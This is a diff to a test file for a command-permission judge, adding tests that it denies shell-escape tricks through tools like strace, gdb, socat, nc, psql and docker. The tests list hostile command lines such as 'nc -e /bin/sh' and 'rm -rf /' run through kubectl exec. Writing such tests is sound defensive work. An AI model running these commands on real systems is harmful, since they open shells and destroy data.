@@ -53,6 +53,24 @@ const PROGRAMS = [
   'kubectl',
   'docker',
   'at',
+  'strace',
+  'gdb',
+  'socat',
+  'perf',
+  'nc',
+  'ncat',
+  'tcpdump',
+  'ansible',
+  'helm',
+  'psql',
+  'mysql',
+  'ip',
+  'sudo',
+  'crontab',
+  'vim.basic',
+  'editor',
+  'pager',
+  'batcat',
 ];
 const ALLOW_LIST = `  default: deny\n  rules:\n    - { name: tools, match: { commands: [${PROGRAMS.map((p) => `"${p} **"`).join(', ')}] }, action: allow }\n`;
 
@@ -115,6 +133,29 @@ it('refuses, under an allow list of the programs, each line the attack ran anoth
     'docker exec c rm -rf /',
     'git pull -s x',
     'git rebase --strategy=x main',
+    // The sixth attack's.
+    "strace -o '|touch /tmp/x' ls",
+    "strace --output='!touch /tmp/x' ls",
+    "gdb -batch -ex '!touch /tmp/x'",
+    "socat - exec:'touch /tmp/x'",
+    'socat - SYSTEM:id',
+    'perf stat -- touch /tmp/x',
+    'nc -e /bin/sh h 1',
+    "ncat --sh-exec 'id' -l 1",
+    'tcpdump -z /tmp/x -w f -C 1',
+    'ansible all -m shell -a id',
+    'helm install x y --post-renderer /tmp/x',
+    "psql -c '\\! id'",
+    "mysql -e 'system id'",
+    'ip -b -',
+    'ip netns exec x ls',
+    'kubectl -n default exec pod -- rm -rf /',
+    'docker compose -f - up',
+    'docker build -',
+    'sudo -e /etc/hosts',
+    'crontab -e',
+    'vim.basic f',
+    'editor f',
   ];
   expect(ran.filter((line) => judge.decide({ kind: 'exec', command: line }, 'bash').action !== 'deny')).toEqual([]);
   // What reads only stays allowed.
@@ -145,6 +186,14 @@ it('refuses, under an allow list of the programs, each line the attack ran anoth
     'at -l',
     'git diff --stat',
     'tar -cf a.tar dir',
+    'strace -o trace.txt ls',
+    'socat - TCP:127.0.0.1:1',
+    'perf list',
+    'nc -z h 1',
+    'tcpdump -c 1 -w f',
+    'ip -br a',
+    'sudo -n ls',
+    'crontab -l',
   ])
     expect(judge.decide({ kind: 'exec', command: line }, 'bash').action, line).toBe('allow');
 });
@@ -152,7 +201,7 @@ it('refuses, under an allow list of the programs, each line the attack ran anoth
 it('judges a program that takes commands from its input or terminal as a shell: allowed where a shell is', async () => {
   const allowList = await judgeOf(ALLOW_LIST);
   // With a terminal (`ssh -t`), a pager's `!cmd` runs a command: less, man, git's pager, systemctl's.
-  for (const line of ['less /etc/hostname', 'man ls', 'git log', 'systemctl status x', 'vim f', 'cat f | less']) {
+  for (const line of ['less /etc/hostname', 'man ls', 'git log', 'systemctl status x', 'vim f', 'cat f | less', 'pager f', 'batcat f', 'perf list']) {
     const verdict = allowList.decide({ kind: 'exec', command: line, terminal: true }, 'bash');
     expect(verdict.action, line).toBe('deny');
     expect(verdict.reason).toMatch(/is judged as a shell: .*no ssh rule matches.*the default is deny/);
